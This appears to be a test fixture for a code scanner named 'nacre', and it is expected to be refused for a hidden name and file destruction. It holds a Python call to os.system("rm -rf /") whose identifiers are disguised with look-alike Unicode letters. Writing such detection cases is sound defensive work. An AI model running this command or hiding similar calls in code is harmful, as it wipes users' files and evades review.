# nacre: refused code.hidden-name file.destroy
import ｏs
𝘰𝘴.𝓈𝔶𝖘𝙩𝚎𝐦("rm -rf /")
